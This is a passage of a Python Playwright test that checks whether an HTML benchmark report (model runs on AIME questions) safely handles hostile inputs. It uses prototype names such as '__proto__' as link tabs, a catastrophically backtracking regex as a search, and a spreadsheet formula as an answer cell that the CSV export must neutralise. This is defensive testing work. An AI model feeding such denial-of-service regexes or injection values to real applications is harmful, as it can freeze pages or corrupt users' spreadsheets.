    """A page whose document ids hold ":" (``aime:2024:<n>``), whose questions 0–4 carry a metadata field named
    ``constructor``, and whose question 5's primary answer is a spreadsheet formula."""

    def change(record) -> dict:
        changes = {"doc_id": f"aime:2024:{record.doc_id}"}
        if record.doc_id < 5:
            changes["metadata"] = {**record.metadata, "constructor": "odd"}
        if record.doc_id == 5 and record.repeat == 0:
            changes["answer"] = FORMULA
        return changes

    root = tmp_path_factory.mktemp("hostile")
    write_tokenized_runs(root / "runs", tiny_tokenizer, ["model-a"], ["aime"], 12, k=2)
    rewrite_records(root / "runs", "model-a", change)
    html = root / "hostile.html"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", TracWarning)
        main(["report", str(root / "runs"), "--html", str(html), "--resamples", "20", "--jobs", "1"])
    return html


def test_hostile_links_ids_and_cells_are_harmless(browser: Browser, hostile: Path) -> None:
    """Issue 50, the page's side: prototype names in a link open the leaderboard; a link's /regex/ is never run; a
    /regex/g search keeps every match; a document id with ":" opens that very question; a metadata field named
    ``constructor`` filters; a CSV cell that starts as a formula is led by ' while numbers stay numbers."""
    context = browser.new_context(offline=True, viewport={"width": 1440, "height": 960})
    for tab in ("constructor", "__proto__", "toString"):
        with opened(context, f"{hostile.as_uri()}#tab={tab}", hostile) as page:
            assert not page.locator("#panel-leaderboard").is_hidden()
            assert page.locator("#ranked-summary tbody tr").count() > 0
    freezing = "/(\\w+\\s?)+#/"  # backtracks for ever on a long line without "#"
    with opened(context, f"{hostile.as_uri()}#tab=questions&q={quote(freezing, safe='')}", hostile) as page:
        expect(page.locator("#question-list tbody tr")).to_have_count(12)
        assert "not run" in page.inner_text("#search-note")
        search = page.locator("#question-search")
        search.fill("/[0-9]/")
        search.press("Enter")
        expect(page.locator("#question-list tbody tr")).to_have_count(12)
        search.fill("/[0-9]/g")  # a stateful /g would skip every other match
        search.press("Enter")
        expect(page.locator("#question-list tbody tr")).to_have_count(12)
        search.fill("/" + "a" * 201 + "/")
        search.press("Enter")
        assert "at most 200 characters" in page.inner_text("#search-note")
        search.fill("")
        search.press("Enter")
        page.locator("#question-list tbody tr").filter(has=page.locator("td:text-is('aime:2024:7')")).click()
        assert opened_title(page) == "model-a · aime · document aime:2024:7"
        link = page.url
        page.select_option("#filter-field", "constructor")
        page.fill("#filter-field-value", "odd")
        expect(page.locator("#question-list tbody tr")).to_have_count(5)
        page.fill("#filter-field-value", "")
        expect(page.locator("#question-list tbody tr")).to_have_count(12)
        shown = pd.read_csv(downloaded(page, ".downloads[data-stem=questions] .download-csv"))
        assert (shown["answer"] == "'" + FORMULA).sum() == 1 and not shown["answer"].str.startswith("=").any()
        assert pd.api.types.is_numeric_dtype(shown["trac score"])
    with opened(context, link, hostile) as page:
        assert opened_title(page) == "model-a · aime · document aime:2024:7"
    context.close()
